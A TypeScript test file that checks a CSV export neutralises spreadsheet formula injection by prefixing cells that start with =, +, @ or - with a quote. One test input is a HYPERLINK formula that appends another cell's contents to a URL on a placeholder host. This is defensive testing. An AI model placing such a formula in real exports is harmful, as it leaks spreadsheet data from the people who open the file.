import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, type ExportColumn } from '../../src-ui/export/csv';

interface Line {
  item: string;
  count: number | null;
}

const columns: ExportColumn<Line>[] = [
  { header: 'Item', value: (r) => r.item },
  { header: 'Jumlah', value: (r) => r.count },
];

describe("the UIs' CSV export", () => {
  it('makes text that would run as a formula plain text, keeps numbers (negative ones too) as numbers, and quotes separators', () => {
    const rows: Line[] = [
      { item: '=HYPERLINK("http://x/?"&A2,"Klik")', count: 3 },
      { item: '+62812', count: -2 },
      { item: '@admin', count: null },
      { item: 'berapa harganya, kak?', count: 1 },
      { item: '-', count: 0 },
    ];
    const text = csvText(rows, columns);
    expect(text.endsWith('\r\n')).toBe(true);
    const parsed = Papa.parse<string[]>(text.trimEnd(), { newline: '\r\n' }).data;
    expect(parsed).toEqual([
      ['Item', 'Jumlah'],
      [`'=HYPERLINK("http://x/?"&A2,"Klik")`, '3'],
      [`'+62812`, '-2'],
      [`'@admin`, ''],
      ['berapa harganya, kak?', '1'],
      [`'-`, '0'],
    ]);
  });
});
